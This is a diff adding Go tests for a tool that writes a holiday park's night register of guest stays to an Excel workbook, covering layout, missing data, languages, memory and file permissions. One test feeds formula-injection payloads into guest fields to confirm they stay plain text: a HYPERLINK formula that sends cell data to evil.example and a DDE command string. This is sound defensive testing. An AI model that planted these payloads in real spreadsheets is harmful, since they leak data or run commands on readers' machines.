@@ -1,0 +1,482 @@
+package main
+
+import (
+	"archive/zip"
+	"bytes"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"runtime"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+
+	"github.com/reservationkit/reservations-go/reservationstest"
+	"github.com/reservationkit/reservations-go/types"
+)
+
+// form writes the days as a workbook and opens it again.
+func form(t *testing.T, days []types.PresenceDay, from origin) (*excelize.File, []byte) {
+	t.Helper()
+	from.Asked.out = t.TempDir()
+	var written bytes.Buffer
+	if err := newRegister(days, nil, from).writeForm(&written, slices.Values(days)); err != nil {
+		t.Fatal(err)
+	}
+	if left := contents(t, from.Asked.out); len(left) != 0 {
+		t.Errorf("temporary files are left: %v", left)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(written.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { f.Close() })
+	return f, written.Bytes()
+}
+
+// formRows are the rows below the names of the columns, as a reader sees them.
+func formRows(t *testing.T, f *excelize.File) [][]string {
+	t.Helper()
+	rows, err := f.GetRows(f.GetSheetName(0))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows[4:]
+}
+
+// whole is a stay of which the register says everything.
+func whole() types.PresenceItem {
+	item := booked(7, 1, 5)
+	item.ReservationNumber, item.ReservationName = "R7", "Jansen"
+	item.ReservationAccommodationUnitNumber, item.ReservationAccommodationTitle = "12", "Chalet for six"
+	item.GuestLocality, item.GuestDocumentType = "Utrecht", "passport"
+	return item
+}
+
+func TestForm(t *testing.T) {
+	t.Parallel()
+	child := whole()
+	child.AgeGroupSpecificationDescription, child.NumOfPersons = "Children", types.Ptr(1)
+	from := madeUp
+	from.Park = "Dune & Sea"
+	f, _ := form(t, []types.PresenceDay{
+		{Date: november(1), Items: []types.PresenceItem{whole(), child}},
+		{Date: november(2), Items: []types.PresenceItem{whole()}},
+		{Date: november(3), Items: []types.PresenceItem{}},
+	}, from)
+	rows, err := f.GetRows("Night register")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rows[0][0]; got != "Dune & Sea · Night register" {
+		t.Errorf("the title is %q", got)
+	}
+	if got := rows[1][0]; got != "Sunday 1 November 2026 – Tuesday 3 November 2026" {
+		t.Errorf("the period is %q", got)
+	}
+	if got := rows[2][0]; !strings.Contains(got, "“About this register”") {
+		t.Errorf("the note is %q", got)
+	}
+	want := [][]string{
+		{"Night", "Unit", "Accommodation", "Name", "Persons", "Age groups", "Arrival (booked)", "Departure (booked)", "Residence", "Country", "Kind of document", "Reservation", "Missing"},
+		{"01/11/2026", "12", "Chalet for six", "Jansen", "3", "Adults 2, Children 1", "01/11/2026", "05/11/2026", "Utrecht", "Netherlands", "passport", "R7"},
+		{"02/11/2026", "12", "Chalet for six", "Jansen", "2", "Adults 2", "01/11/2026", "05/11/2026", "Utrecht", "Netherlands", "passport", "R7"},
+	}
+	if diff := cmp.Diff(want, rows[3:]); diff != "" {
+		t.Errorf("rows (-want +got):\n%s", diff)
+	}
+	for cell, want := range map[string]string{"A5": "46327", "E5": "3", "G5": "46327", "H6": "46331"} { // days since 1900
+		kind, err := f.GetCellType("Night register", cell)
+		value, err2 := f.GetCellValue("Night register", cell, excelize.Options{RawCellValue: true})
+		if kind != excelize.CellTypeUnset || value != want || errors.Join(err, err2) != nil {
+			t.Errorf("%s is %q of type %d, errors %v and %v, want the number %s", cell, value, kind, err, err2, want)
+		}
+	}
+	if kind, err := f.GetCellType("Night register", "B5"); kind != excelize.CellTypeInlineString || err != nil {
+		t.Errorf("the number of a unit is of type %d, error %v, want a text", kind, err)
+	}
+}
+
+// The sheet is ready to read, to filter and to print.
+func TestFormLayout(t *testing.T) {
+	t.Parallel()
+	from := madeUp
+	from.Park = "Dune & Sea &P " + strings.Repeat("&", 300)
+	f, data := form(t, []types.PresenceDay{{Date: november(1), Items: []types.PresenceItem{whole()}}}, from)
+	panes, err := f.GetPanes("Night register")
+	if err != nil || !panes.Freeze || panes.YSplit != 4 || panes.XSplit != 0 || panes.TopLeftCell != "A5" {
+		t.Errorf("the panes are %+v, error %v", panes, err)
+	}
+	layout, err := f.GetPageLayout("Night register")
+	if err != nil || *layout.Orientation != "landscape" || *layout.Size != 9 || *layout.FitToWidth != 1 || *layout.FitToHeight != 0 {
+		t.Errorf("the layout is %+v, error %v", layout, err)
+	}
+	if props, err := f.GetSheetProps("Night register"); err != nil || !*props.FitToPage {
+		t.Errorf("the sheet does not fit to the width of the paper, error %v", err)
+	}
+	var names []string
+	for _, name := range f.GetDefinedName() {
+		names = append(names, name.Name+" "+name.RefersTo)
+	}
+	want := []string{"_xlnm.Print_Titles 'Night register'!$4:$4", "_xlnm._FilterDatabase 'Night register'!$A$4:$M$5"}
+	if diff := cmp.Diff(want, names); diff != "" {
+		t.Errorf("defined names (-want +got):\n%s", diff)
+	}
+	if sheet := partOf(t, data, "xl/worksheets/sheet1.xml"); !strings.Contains(sheet, `<autoFilter ref="$A$4:$M$5">`) {
+		t.Error("the rows have no filter")
+	}
+	footer, err := f.GetHeaderFooter("Night register")
+	if err != nil || !strings.HasPrefix(footer.OddFooter, "&LDune && Sea &&P &&") || !strings.HasSuffix(footer.OddFooter, "…&R&P / &N") || len([]rune(footer.OddFooter)) > 255 {
+		t.Errorf("the footer is %+v, error %v", footer, err)
+	}
+	if width, err := f.GetColWidth("Night register", "D"); err != nil || width < 20 {
+		t.Errorf("the column of names has the width %v, error %v", width, err)
+	}
+	if props, err := f.GetDocProps(); err != nil || props.Creator != "nightregister" || props.Created != "2026-12-06T09:30:00Z" {
+		t.Errorf("the properties are %+v, error %v", props, err)
+	}
+}
+
+func TestFormMissing(t *testing.T) {
+	t.Parallel()
+	var unreadable types.Date
+	if err := unreadable.UnmarshalJSON([]byte(`"soon"`)); err != nil {
+		t.Fatal(err)
+	}
+	tests := map[string]struct {
+		spoil func(*types.PresenceItem)
+		want  string
+	}{
+		"nothing":                 {func(*types.PresenceItem) {}, ""},
+		"the name":                {func(i *types.PresenceItem) { i.ReservationName = "" }, "name"},
+		"a blank name":            {func(i *types.PresenceItem) { i.ReservationName = " \t" }, "name"},
+		"the residence":           {func(i *types.PresenceItem) { i.GuestLocality = "" }, "residence"},
+		"a country is not enough": {func(i *types.PresenceItem) { i.GuestLocality = " "; i.GuestCountry = "NL" }, "residence"},
+		"the arrival":             {func(i *types.PresenceItem) { i.ReservationDateFrom = types.Date{} }, "arrival"},
+		"a text for an arrival":   {func(i *types.PresenceItem) { i.ReservationDateFrom = unreadable }, "arrival"},
+		"the departure":           {func(i *types.PresenceItem) { i.ReservationDateTo = types.Date{} }, "departure"},
+		"still there":             {func(i *types.PresenceItem) { i.ReservationDateTo = november(2) }, "departure"},
+		"the document":            {func(i *types.PresenceItem) { i.GuestDocumentType = "" }, "kind of document"},
+		"everything":              {func(i *types.PresenceItem) { *i = types.PresenceItem{ReservationID: 7} }, "name, residence, arrival, departure, kind of document"},
+	}
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			item := whole()
+			tt.spoil(&item)
+			f, _ := form(t, []types.PresenceDay{{Date: november(2), Items: []types.PresenceItem{item}}}, madeUp)
+			if got, err := f.GetCellValue("Night register", "M5"); got != tt.want || err != nil {
+				t.Errorf("missing is %q, error %v, want %q", got, err, tt.want)
+			}
+		})
+	}
+}
+
+// What the service did not send is a blank cell or a question mark, and what is no day stays
+// the text that it is.
+func TestFormKeepsWhatWasSent(t *testing.T) {
+	t.Parallel()
+	odd := types.PresenceItem{ReservationID: 1<<53 + 1, AgeGroupSpecificationDescription: "Adults"}
+	if err := odd.ReservationDateFrom.UnmarshalJSON([]byte(`"soon"`)); err != nil {
+		t.Fatal(err)
+	}
+	odd.ReservationDateTo = types.NewDate(1899, time.December, 31)
+	some := odd
+	some.AgeGroupSpecificationDescription, some.NumOfPersons = "", types.Ptr(2)
+	f, _ := form(t, []types.PresenceDay{{Items: []types.PresenceItem{odd, some}}, {Date: november(1), Items: []types.PresenceItem{{}}}}, madeUp)
+	want := [][]string{
+		{"", "", "", "", "2 + ?", "Adults ?, not stated 2", "soon", "1899-12-31", "", "", "", "id 9007199254740993", "name, residence, arrival, kind of document"},
+		{"01/11/2026", "", "", "", "?", "not stated ?", "", "", "", "", "", "", "name, residence, arrival, departure, kind of document"},
+	}
+	if diff := cmp.Diff(want, formRows(t, f)); diff != "" {
+		t.Errorf("rows (-want +got):\n%s", diff)
+	}
+	if kind, err := f.GetCellType("Night register", "B6"); kind != excelize.CellTypeUnset || err != nil {
+		t.Errorf("a blank cell is of type %d, error %v", kind, err)
+	}
+	about, err := f.GetRows("About this register")
+	if text := fmt.Sprint(about); err != nil || !strings.Contains(text, "do not say how many persons: 2") || !strings.Contains(text, "name no reservation: 1") || !strings.Contains(text, "without a date: 1") {
+		t.Errorf("the notices are not on the second sheet: %s, error %v", text, err)
+	}
+}
+
+// A text of a guest is never a formula, neither when the workbook is opened nor when
+// somebody edits the cell, and comes out as it went in.
+func TestFormHasNoFormulas(t *testing.T) {
+	t.Parallel()
+	for name, text := range map[string]string{
+		"equals": `=HYPERLINK("https://evil.example/?"&A1,"open")`, "plus": "+1+1", "minus": "-1-1", "at": "@SUM(A1)", "tab": "\t=1+1",
+		"full width": "＝1+1", "command": "=cmd|'/C calc'!A0", "a number": "007", "a date": "2026-11-01", "an error": "#REF!",
+		"markup": hostileText, "an escape": "_x0041_BC", "blanks around": "  Jansen ", "lines": "a\nb",
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			item := types.PresenceItem{
+				ReservationNumber: text, ReservationName: text, ReservationAccommodationTitle: text, ReservationAccommodationUnitNumber: text,
+				AgeGroupSpecificationDescription: text, GuestLocality: text, GuestCountry: text, GuestDocumentType: text, NumOfPersons: types.Ptr(1),
+			}
+			from := madeUp
+			from.Park = text
+			f, data := form(t, []types.PresenceDay{{Date: november(1), Items: []types.PresenceItem{item}}}, from)
+			for _, cell := range []string{"A1", "B5", "C5", "D5", "F5", "I5", "J5", "K5", "L5"} {
+				value, err := f.GetCellValue("Night register", cell)
+				if err != nil || !strings.Contains(value, text) {
+					t.Errorf("%s holds %q, error %v, want %q", cell, value, err, text)
+				}
+				formula, err := f.GetCellFormula("Night register", cell)
+				kind, err2 := f.GetCellType("Night register", cell)
+				if formula != "" || kind != excelize.CellTypeInlineString || errors.Join(err, err2) != nil {
+					t.Errorf("%s has the formula %q and the type %d, errors %v and %v", cell, formula, kind, err, err2)
+				}
+				id, err := f.GetCellStyle("Night register", cell)
+				if err != nil {
+					t.Fatal(err)
+				}
+				const asText = 49 // the format "@" keeps what is typed a text
+				if style, err := f.GetStyle(id); err != nil || style.NumFmt != asText {
+					t.Errorf("%s has the style %+v, error %v, want the format of a text", cell, style, err)
+				}
+			}
+			for _, sheet := range []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} {
+				if content := partOf(t, data, sheet); strings.Contains(content, "<f>") || strings.Contains(content, "<f ") {
+					t.Errorf("%s holds a formula", sheet)
+				}
+			}
+		})
+	}
+}
+
+// Signs that XML cannot hold do not make a file that cannot be opened.
+func TestFormWithSignsThatXMLCannotHold(t *testing.T) {
+	t.Parallel()
+	item := whole()
+	item.ReservationName = "a\x00b\x1bc\xffd"
+	f, _ := form(t, []types.PresenceDay{{Date: november(1), Items: []types.PresenceItem{item}}}, madeUp)
+	if got, want := formRows(t, f)[0][3], "a\uFFFDb\uFFFDc\uFFFDd"; got != want {
+		t.Errorf("the name is %q, want %q", got, want)
+	}
+}
+
+func TestFormLanguages(t *testing.T) {
+	t.Parallel()
+	for code, want := range map[string]struct {
+		sheets  []string
+		day     string
+		missing string
+	}{
+		"en": {[]string{"Night register", "About this register"}, "01/11/2026", "name"},
+		"nl": {[]string{"Nachtregister", "Over dit register"}, "01-11-2026", "naam"},
+		"de": {[]string{"Nachtregister", "Über dieses Register"}, "01.11.2026", "Name"},
+	} {
+		t.Run(code, func(t *testing.T) {
+			t.Parallel()
+			from := madeUp
+			from.Locale, from.Demo = locales[code], true
+			item := whole()
+			item.ReservationName = ""
+			f, _ := form(t, []types.PresenceDay{{Date: november(1), Items: []types.PresenceItem{item}}}, from)
+			if diff := cmp.Diff(want.sheets, f.GetSheetList()); diff != "" {
+				t.Errorf("sheets (-want +got):\n%s", diff)
+			}
+			row := formRows(t, f)[0]
+			if row[0] != want.day || row[12] != want.missing {
+				t.Errorf("the row is %q, want %q and %q in it", row, want.day, want.missing)
+			}
+			note, err := f.GetCellValue(want.sheets[0], "A3")
+			if err != nil || !strings.HasPrefix(note, locales[code].Demo) || !strings.Contains(note, want.sheets[1]) {
+				t.Errorf("the note is %q, error %v", note, err)
+			}
+			about, err := f.GetRows(want.sheets[1])
+			if err != nil || !slices.ContainsFunc(about, func(row []string) bool { return row[0] == locales[code].FormNotCarried }) {
+				t.Errorf("the second sheet is %q, error %v", about, err)
+			}
+		})
+	}
+}
+
+// TestFormMemory writes 50,000 rows. The stays are made one night at a time, so what is held
+// grows with the workbook alone: its rows are in a file after 16 MiB, and its compressed form.
+func TestFormMemory(t *testing.T) {
+	const nights, stays, most = 500, 100, 64 << 20
+	held := func() uint64 {
+		runtime.GC()
+		var m runtime.MemStats
+		runtime.ReadMemStats(&m)
+		return m.HeapAlloc
+	}
+	from := madeUp
+	from.Asked.out = t.TempDir()
+	before, highest, temporary := held(), uint64(0), int64(0)
+	days := func(yield func(types.PresenceDay) bool) {
+		for night := range nights {
+			day := types.PresenceDay{Date: november(1).AddDays(night)}
+			for i := range stays {
+				item := whole()
+				item.ReservationID, item.ReservationNumber = int64(i+1), "R"+strconv.Itoa(i+1)
+				day.Items = append(day.Items, item)
+			}
+			if !yield(day) {
+				return
+			}
+			if night%50 == 49 {
+				highest, temporary = max(highest, held()-min(held(), before)), max(temporary, bytesBelow(t, from.Asked.out))
+			}
+		}
+	}
+	var written bytes.Buffer
+	if err := newRegister(nil, nil, from).writeForm(&written, days); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("at most %d MiB held, %d MiB in temporary files, %d MiB written", highest>>20, temporary>>20, written.Len()>>20)
+	if highest > most {
+		t.Errorf("%d bytes are held, want at most %d", highest, most)
+	}
+	if temporary == 0 {
+		t.Error("no temporary file was seen in the folder of the output")
+	}
+	if left, err := os.ReadDir(from.Asked.out); err != nil || len(left) > 0 {
+		t.Errorf("%v are left, error %v", left, err)
+	}
+	f, err := excelize.OpenReader(&written)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := f.Rows("Night register")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rows.Close()
+	n := 0
+	for rows.Next() {
+		n++
+	}
+	if n != nights*stays+4 {
+		t.Errorf("the sheet has %d rows, want %d and 4 above them", n, nights*stays)
+	}
+}
+
+// bytesBelow is how much the files in the folders of a folder hold.
+func bytesBelow(t *testing.T, dir string) (size int64) {
+	t.Helper()
+	names, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range names {
+		files, err := os.ReadDir(dir + "/" + name.Name())
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, file := range files {
+			info, err := file.Info()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if info.Mode().Perm()&0o077 != 0 {
+				t.Errorf("the temporary file has the mode %v", info.Mode())
+			}
+			size += info.Size()
+		}
+	}
+	return size
+}
+
+func TestFormWithTooManyRows(t *testing.T) {
+	t.Parallel()
+	b := &workbook{row: 1_048_576}
+	if err := b.add("one more"); err == nil || !strings.Contains(err.Error(), "1048576 rows") || !strings.Contains(err.Error(), "fewer nights") {
+		t.Errorf("got %v, want that there are too many rows", err)
+	}
+}
+
+func TestFormCannotBeWritten(t *testing.T) {
+	t.Parallel()
+	broken := errors.New("the disk is full")
+	from := madeUp
+	from.Asked.out = t.TempDir()
+	err := newRegister(nil, nil, from).writeForm(failing{broken}, slices.Values([]types.PresenceDay{}))
+	if !errors.Is(err, broken) {
+		t.Errorf("got %v, want %v", err, broken)
+	}
+	if left := contents(t, from.Asked.out); len(left) != 0 {
+		t.Errorf("temporary files are left: %v", left)
+	}
+	from.Asked.out += "/none"
+	if err := newRegister(nil, nil, from).writeForm(io.Discard, slices.Values([]types.PresenceDay{})); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("got %v, want that there is no such folder", err)
+	}
+}
+
+type failing struct{ err error }
+
+func (f failing) Write([]byte) (int, error) { return 0, f.err }
+
+// partOf is a file within a workbook.
+func partOf(t *testing.T, data []byte, name string) string {
+	t.Helper()
+	archive, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	file, err := archive.Open(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	content, err := io.ReadAll(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(content)
+}
+
+// The form is written with the other files, for its owner alone, and has a row for each
+// reservation and night of the register.
+func TestRunWritesTheForm(t *testing.T) {
+	t.Parallel()
+	server, env := park(t, reservationstest.Park(3, 90, november(1), 12)...)
+	dir := t.TempDir()
+	var stdout, stderr bytes.Buffer
+	if code := run(t.Context(), []string{"-from", "2026-11-01", "-to", "2026-11-12", "-xlsx", "-out", dir}, env, now, &stdout, &stderr); code != 0 {
+		t.Fatalf("exit code %d, stderr:\n%s", code, &stderr)
+	}
+	info, err := os.Stat(dir + "/" + xlsxName)
+	if err != nil || info.Mode().Perm()&0o077 != 0 {
+		t.Fatalf("the file is %v, error %v", info, err)
+	}
+	if names, err := os.ReadDir(dir); err != nil || len(names) != 3 {
+		t.Errorf("the folder holds %v, error %v, want three files", names, err)
+	}
+	f, err := excelize.OpenFile(dir + "/" + xlsxName)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	want := map[string]int{}
+	for _, day := range server.Register(reservationstest.PresenceQuery{DateFrom: november(1), DateTo: november(12)}) {
+		for _, item := range day.Items {
+			want[day.Date.Midnight().Format("02/01/2006")+" "+item.ReservationNumber] += item.Persons()
+		}
+	}
+	got := map[string]int{}
+	for _, row := range formRows(t, f) {
+		persons, err := strconv.Atoi(row[4])
+		if err != nil {
+			t.Fatal(err)
+		}
+		got[row[0]+" "+row[11]] += persons
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("persons by night and reservation (-register +form):\n%s", diff)
+	}
+	if !strings.Contains(stdout.String(), "For the municipality: file://") || !strings.Contains(stdout.String(), xlsxName) {
+		t.Errorf("the summary is:\n%s", &stdout)
+	}
+}
